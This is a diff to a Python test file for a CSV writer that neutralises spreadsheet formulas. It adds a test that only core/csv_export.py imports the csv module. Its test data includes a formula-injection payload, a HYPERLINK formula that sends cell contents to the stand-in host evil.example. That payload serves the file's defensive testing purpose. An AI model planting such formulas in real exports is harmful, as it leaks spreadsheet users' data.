@@ -1,5 +1,6 @@
 """The one CSV writer: a cell that a spreadsheet would run as a formula is written as text."""
 
+import ast
 import csv
 import io
 from decimal import Decimal
@@ -7,6 +8,7 @@ from decimal import Decimal
 import pytest
 
 from core.csv_export import FORMULA_TRIGGERS, csv_cell, csv_lines
+from tests.processes import ROOT
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Offer")',
@@ -78,3 +80,17 @@ def test_lines_quote_every_data_cell_so_a_separator_cannot_start_a_cell() -> Non
 def test_a_row_of_the_wrong_length_is_an_error_not_a_shifted_column() -> None:
     with pytest.raises(ValueError):
         list(csv_lines(header=["a", "b"], rows=[["only one"]]))
+
+
+def test_every_csv_the_project_writes_goes_through_this_writer() -> None:
+    """Only core.csv_export may use the csv module, so no export can skip the neutralising."""
+    packages = [folder for folder in ROOT.iterdir() if (folder / "__init__.py").exists() and folder.name != "tests"]
+    writers = set()
+    for path in (path for package in packages for path in package.rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
+            if isinstance(node, ast.ImportFrom) and node.level == 0:
+                names = [node.module or ""]
+            if any(name.split(".")[0] == "csv" for name in names):
+                writers.add(str(path.relative_to(ROOT)))
+    assert writers == {"core/csv_export.py"}
